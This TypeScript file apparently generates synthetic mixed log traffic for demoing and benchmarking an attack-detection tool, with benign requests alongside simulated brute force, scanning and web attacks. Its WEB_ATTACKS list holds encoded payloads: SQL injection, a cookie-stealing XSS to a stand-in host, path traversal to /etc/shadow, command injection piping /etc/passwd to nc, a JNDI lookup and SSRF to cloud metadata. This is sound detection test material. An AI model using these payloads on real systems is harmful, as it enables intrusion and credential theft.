// Realistic mixed traffic for the demo, `npm run cli -- simulate` and the benchmarks: mostly
// benign web requests and SSH logins, with attack campaigns mixed in (web injection attempts,
// scanners sweeping for files, SSH brute force, password spraying, a listed "known bad" source).
// Deterministic for a seed. Addresses come from the documentation ranges (RFC 5737).
type Ecs = Record<string, unknown>;

function mulberry32(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
];
const PAGES = [
  "/",
  "/products",
  "/products/42",
  "/cart",
  "/checkout",
  "/blog/2026/11/what-we-learned",
  "/search?q=winter+boots",
  "/search?q=o%27neil+jacket",
  "/api/v1/orders?page=2",
  "/static/app.js",
  "/static/logo.svg",
  "/account/settings",
  "/help/returns",
  "/search?q=select+the+best+union+suit",
];
const COMMENTS = [
  "Great product, my daughter's favourite - she says it's \"the best\"!",
  "Does this ship to Zürich? Merci beaucoup",
  "Отличный магазин, спасибо",
  "配送はいつですか？",
  "Use `ls -la` to check the folder, then select all and drop it in the union folder; or not.",
  "I'd rate it 5/5 - select one of the colours and you're done.",
];
const USERS = ["alice", "bob", "carol", "deploy", "backup", "jenkins", "maria", "omar"];
const HOSTS = ["web-01", "web-02", "bastion", "db-01"];
const SCANNER_PATHS = [
  "/.env",
  "/.git/config",
  "/wp-login.php",
  "/phpmyadmin/",
  "/admin/",
  "/backup.zip",
  "/server-status",
  "/config.php.bak",
  "/.aws/credentials",
  "/actuator/env",
  "/debug/pprof",
  "/vendor/phpunit/",
  "/cgi-bin/test.cgi",
  "/.DS_Store",
  "/db.sql",
  "/old/",
  "/test.php",
  "/shell.php",
  "/xmlrpc.php",
  "/login.action",
  "/console/",
  "/.svn/entries",
];
// Our own attack samples, one per technique, for the demo (not taken from any test suite).
const WEB_ATTACKS: { url?: string; body?: string; method?: string }[] = [
  { url: "/products?id=42%27%20UNION%20SELECT%20username,password_hash%20FROM%20customers--" },
  { url: "/search?q=%22%3E%3Cscript%3Efetch(%27//x.example/c?%27%2Bdocument.cookie)%3C/script%3E" },
  { url: "/download?file=..%2F..%2F..%2F..%2Fetc%2Fshadow" },
  { url: "/tools/ping", method: "POST", body: "host=10.0.0.1%3Bcat%20/etc/passwd%20%7C%20nc%20203.0.113.9%204444" },
  { url: "/login", method: "POST", body: "user=admin%27%20OR%20%271%27%3D%271&pass=x" },
  { url: "/profile?name=%3Csvg%20onload%3Dalert(document.domain)%3E" },
  { url: "/api/items?sort=name;SELECT%20pg_sleep(10)--" },
  { url: "/render?tpl=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fx%7D" },
  { url: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F" },
];
const ATTACK_TOOLS = [
  "sqlmap/1.8.11#stable (https://sqlmap.org)",
  "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "gobuster/3.6",
];

interface Campaign {
  kind: "web" | "scan" | "brute" | "spray";
  ip: string;
  left: number;
  step: number;
}

export class TrafficGenerator {
  private readonly random: () => number;
  private readonly campaigns: Campaign[] = [];
  private counter = 0;

  constructor(private readonly options: { seed?: number; attackShare?: number; idPrefix?: string } = {}) {
    this.random = mulberry32(options.seed ?? Date.now());
  }

  private pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.random() * list.length)]!;
  }

  private ip(range: "benign" | "attacker" | "bad"): string {
    if (range === "bad") return this.pick(["192.0.2.201", "192.0.2.203", "192.0.2.205"]);
    const octet = 1 + Math.floor(this.random() * 250);
    return range === "benign" ? `198.51.100.${octet}` : `203.0.113.${octet}`;
  }

  private base(at: Date): Ecs {
    this.counter += 1;
    return {
      "@timestamp": at.toISOString(),
      event: {
        id: `${this.options.idPrefix ?? "sim"}-${at.getTime().toString(36)}-${this.counter.toString(36)}-${Math.floor(this.random() * 1e9).toString(36)}`,
      },
    };
  }

  private web(at: Date, ip: string, path: string, ua: string, status: number, method = "GET", body?: string): Ecs {
    const e = this.base(at);
    return {
      ...e,
      event: {
        ...(e.event as object),
        kind: "event",
        category: ["web"],
        module: "nginx",
        dataset: "nginx.access",
        outcome: status < 400 ? "success" : "failure",
      },
      source: { ip, port: 30_000 + Math.floor(this.random() * 30_000) },
      host: { name: this.pick(HOSTS.slice(0, 2)) },
      url: { original: path },
      http: { request: { method, ...(body ? { body: { content: body } } : {}) }, response: { status_code: status } },
      user_agent: { original: ua },
    };
  }

  private sshd(at: Date, line: string): Ecs {
    const e = this.base(at);
    return {
      ...e,
      event: { ...(e.event as object), module: "sshd" },
      message: `sshd[${1000 + Math.floor(this.random() * 9000)}]: ${line}`,
    };
  }

  private benign(at: Date): Ecs {
    const roll = this.random();
    if (roll < 0.06) {
      const user = this.pick(USERS);
      const ip = this.ip("benign");
      // A mistyped password now and then, then the right one.
      return this.random() < 0.3
        ? this.sshd(
            at,
            `Failed password for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2`,
          )
        : this.sshd(
            at,
            `Accepted publickey for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2: ED25519 SHA256:${Math.floor(this.random() * 1e12).toString(36)}`,
          );
    }
    if (roll < 0.1)
      return this.web(
        at,
        this.ip("benign"),
        "/api/v1/reviews",
        this.pick(BROWSERS),
        201,
        "POST",
        JSON.stringify({ rating: 5, comment: this.pick(COMMENTS) }),
      );
    const status = this.random() < 0.03 ? 404 : 200;
    return this.web(at, this.ip("benign"), this.pick(PAGES), this.pick(BROWSERS), status);
  }

  private startCampaign(): Campaign {
    const kind = this.pick(["web", "web", "scan", "brute", "brute", "spray"] as const);
    const ip = this.random() < 0.2 ? this.ip("bad") : this.ip("attacker");
    const campaign = { kind, ip, left: kind === "scan" ? 30 : kind === "web" ? 12 : 25, step: 0 };
    this.campaigns.push(campaign);
    return campaign;
  }

  private attack(at: Date): Ecs {
    const campaign = this.campaigns.length && this.random() < 0.95 ? this.pick(this.campaigns) : this.startCampaign();
    campaign.step += 1;
    if (--campaign.left <= 0) this.campaigns.splice(this.campaigns.indexOf(campaign), 1);
    const port = 40_000 + Math.floor(this.random() * 20_000);
    switch (campaign.kind) {
      case "web": {
        const attack = this.pick(WEB_ATTACKS);
        return this.web(
          at,
          campaign.ip,
          attack.url ?? "/",
          this.random() < 0.5 ? this.pick(ATTACK_TOOLS) : this.pick(BROWSERS),
          this.random() < 0.7 ? 403 : 500,
          attack.method ?? "GET",
          attack.body,
        );
      }
      case "scan":
        return this.web(
          at,
          campaign.ip,
          SCANNER_PATHS[campaign.step % SCANNER_PATHS.length]!,
          this.pick(ATTACK_TOOLS),
          404,
        );
      case "brute":
        return this.sshd(
          at,
          campaign.step % 3 === 0
            ? `Invalid user ${this.pick(["admin", "oracle", "test", "ubuntu"])} from ${campaign.ip} port ${port}`
            : `Failed password for root from ${campaign.ip} port ${port} ssh2`,
        );
      case "spray":
        return this.sshd(
          at,
          `Failed password for ${USERS[campaign.step % USERS.length]} from ${campaign.ip} port ${port} ssh2`,
        );
    }
  }

  next(at = new Date()): Ecs {
    return this.random() < (this.options.attackShare ?? 0.05) ? this.attack(at) : this.benign(at);
  }

  batch(size: number, at = new Date()): Ecs[] {
    return Array.from({ length: size }, () => this.next(at));
  }
}
